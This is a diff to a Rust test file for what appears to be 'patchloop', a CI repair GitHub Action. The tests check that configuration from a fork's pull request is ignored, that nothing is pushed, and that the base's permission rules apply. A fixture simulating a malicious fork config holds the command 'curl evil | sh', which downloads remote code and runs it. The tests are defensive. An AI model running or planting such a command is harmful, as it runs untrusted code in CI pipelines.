@@ -65,6 +65,7 @@ fn workflow_run_payload(edit: impl FnOnce(&mut Value)) -> Vec<u8> {
     ))
     .unwrap();
     v["repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
+    v["workflow_run"]["head_repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
     v["workflow_run"]["pull_requests"][0]["head"]["sha"] = HEAD.into();
     edit(&mut v);
     serde_json::to_vec(&v).unwrap()
@@ -896,4 +897,174 @@ async fn dispatch_with_an_input_ref_resolves_that_branch_not_the_workflow_sha() 
             "the fix PR targets the dispatched branch"
         )
     });
+}
+
+// ---------- fork pull requests: the trust boundary ----------
+
+/// The fork author's config in the checkout: everything it says must be ignored.
+const FORK_CONFIG: &str = "mode: pr\ntest_command: curl evil | sh\nallowed_ci_paths: ['.github/workflows/*']\n\
+                           triggers:\n  comment_min_permission: write\nbudgets:\n  max_steps: 999\n";
+/// The base repository's default-branch config (served by the contents API).
+const BASE_CONFIG: &str = "mode: pr\ntest_command: make test\nbudgets:\n  max_steps: 7\n";
+
+fn fork_setup(mock: &MockGitHub, env: &Env) {
+    mock.with(|s| {
+        s.prs.get_mut(&2).unwrap().head_repo = Some("forker/Hello-World".into());
+        s.contents
+            .insert(".github/patchloop.yml".into(), BASE_CONFIG.into());
+    });
+    let ws = env.dir.path().join("ws/.github");
+    std::fs::create_dir_all(&ws).unwrap();
+    std::fs::write(ws.join("patchloop.yml"), FORK_CONFIG).unwrap();
+}
+
+/// No config from the head, nothing pushed, suggestions instead of `pr`, and a notice.
+fn assert_fork_safe(
+    mock: &MockGitHub,
+    fake: &FakeRepairer,
+    r: &patchloop::github::action::ActionReport,
+) {
+    let req = fake.calls.lock().unwrap()[0].clone();
+    assert_eq!(
+        req.test_cmd.as_deref(),
+        Some("make test"),
+        "the base's test command"
+    );
+    assert_eq!(req.max_steps, Some(7), "the base's budget");
+    assert!(req.allowed_ci_paths.is_empty(), "no CI paths from the fork");
+    let writes = mock.writes();
+    assert!(
+        !writes.iter().any(|w| w.path.contains("/git/")),
+        "nothing pushed into the base repository: {:?}",
+        writes.iter().map(|w| &w.path).collect::<Vec<_>>()
+    );
+    mock.with(|s| {
+        assert!(s.refs.is_empty() && s.created_pulls.is_empty() && s.blobs.is_empty());
+        assert_eq!(s.reviews.len(), 1, "mode pr fell back to suggestions");
+        // The config was read from the default branch (no ref), not the fork's head.
+        let cfg_reads: Vec<&Recorded> = s
+            .requests
+            .iter()
+            .filter(|q| q.path == format!("/repos/{OWNER}/{REPO}/contents/.github/patchloop.yml"))
+            .collect();
+        assert_eq!(cfg_reads.len(), 1);
+        assert!(
+            !cfg_reads[0].query.contains("ref="),
+            "{}",
+            cfg_reads[0].query
+        );
+    });
+    assert!(mock.violations().is_empty(), "{:?}", mock.violations());
+    let all = r.notices.join("\n");
+    assert!(
+        all.contains("checkout's .github/patchloop.yml is ignored")
+            && all.contains("forker/Hello-World"),
+        "{all}"
+    );
+    assert!(all.contains("never pushes a fork's commits"), "{all}");
+    assert!(r.summary.contains("is ignored"), "{}", r.summary);
+}
+
+#[tokio::test]
+async fn fork_workflow_runs_use_the_base_config_and_never_push() {
+    let mock = MockGitHub::start().await;
+    setup_mock(&mock);
+    let payload = workflow_run_payload(|v| {
+        v["workflow_run"]["head_repository"]["full_name"] = "forker/Hello-World".into();
+    });
+    let env = Env::new(&mock, "workflow_run", &payload);
+    fork_setup(&mock, &env);
+    let fake = FakeRepairer::new(verified(PATCH));
+    let r = run(
+        &args(),
+        &env.get(),
+        fake.as_ref(),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(r.end, ActionEnd::Fixed);
+    assert_fork_safe(&mock, &fake, &r);
+
+    // With no pull request found for the fork's commit, `pr` mode posts nothing at all.
+    let mock = MockGitHub::start().await;
+    setup_mock(&mock);
+    let payload = workflow_run_payload(|v| {
+        v["workflow_run"]["head_repository"]["full_name"] = "forker/Hello-World".into();
+        v["workflow_run"]["pull_requests"] = Value::Array(vec![]);
+    });
+    let env = Env::new(&mock, "workflow_run", &payload);
+    fork_setup(&mock, &env);
+    mock.with(|s| s.prs.clear());
+    let fake = FakeRepairer::new(verified(PATCH));
+    let r = run(
+        &args(),
+        &env.get(),
+        fake.as_ref(),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(
+        fake.calls.lock().unwrap()[0].test_cmd.as_deref(),
+        Some("make test")
+    );
+    assert!(mock.writes().is_empty(), "{:?}", mock.writes());
+    assert!(r.summary.contains("no branch is pushed"), "{}", r.summary);
+    assert!(
+        r.summary.contains("```diff"),
+        "the patch is still in the summary"
+    );
+}
+
+#[tokio::test]
+async fn fork_comment_commands_use_the_base_config_and_never_push() {
+    let mock = MockGitHub::start().await;
+    setup_mock(&mock);
+    let env = Env::new(&mock, "issue_comment", &comment_payload(|_| {}));
+    fork_setup(&mock, &env);
+    let fake = FakeRepairer::new(verified(PATCH));
+    let r = run(
+        &args(),
+        &env.get(),
+        fake.as_ref(),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(r.end, ActionEnd::Fixed);
+    assert_fork_safe(&mock, &fake, &r);
+
+    // Who may run the command is the base's call too: its `admin` minimum beats the fork's
+    // `write` for a commenter with write permission.
+    let mock = MockGitHub::start().await;
+    setup_mock(&mock);
+    let env = Env::new(&mock, "issue_comment", &comment_payload(|_| {}));
+    fork_setup(&mock, &env);
+    mock.with(|s| {
+        s.contents.insert(
+            ".github/patchloop.yml".into(),
+            format!("{BASE_CONFIG}triggers:\n  comment_min_permission: admin\n"),
+        );
+    });
+    let fake = FakeRepairer::new(verified(PATCH));
+    let r = run(
+        &args(),
+        &env.get(),
+        fake.as_ref(),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    assert!(
+        matches!(r.end, ActionEnd::Ignored(ref w) if w.contains("`admin`")),
+        "{:?}",
+        r.end
+    );
+    assert_eq!(fake.count(), 0);
+    assert!(mock.writes().is_empty());
 }
